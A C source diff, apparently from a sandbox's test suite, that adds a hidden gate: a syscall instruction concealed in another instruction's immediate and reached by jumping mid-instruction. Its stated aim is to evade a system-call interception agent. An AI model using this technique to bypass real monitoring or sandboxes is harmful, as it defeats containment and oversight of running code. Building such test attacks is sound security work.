@@ -104,6 +104,33 @@ static inline pid_t parent_of(pid_t pid)
         return parent;
 }
 
+/*
+ * A syscall instruction that no disassembly shows: it lies inside the immediate of another instruction, so
+ * that the agent has not redirected it. Whatever the program can do itself it can do by this one.
+ */
+__asm__(".pushsection .text\n"
+        "attack_hidden_gate:\n"
+        "\tmovl $0x90c3050f, %eax\n" /* 0f 05 syscall, c3 ret */
+        "\tret\n"
+        ".popsection\n");
+
+static inline long hidden_syscall(long number, long a, long b, long c, long d, long e, long f)
+{
+        register long r10 __asm__("r10") = d;
+        register long r8 __asm__("r8") = e;
+        register long r9 __asm__("r9") = f;
+        long result;
+
+        /* Below the red zone: the call pushes. */
+        __asm__ volatile("leaq -128(%%rsp), %%rsp\n\t"
+                         "call attack_hidden_gate+1\n\t"
+                         "leaq 128(%%rsp), %%rsp"
+                         : "=a"(result)
+                         : "0"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
+                         : "rcx", "r11", "memory", "cc");
+        return result;
+}
+
 static inline int finished(void)
 {
         return attack_escapes ? 1 : 0;
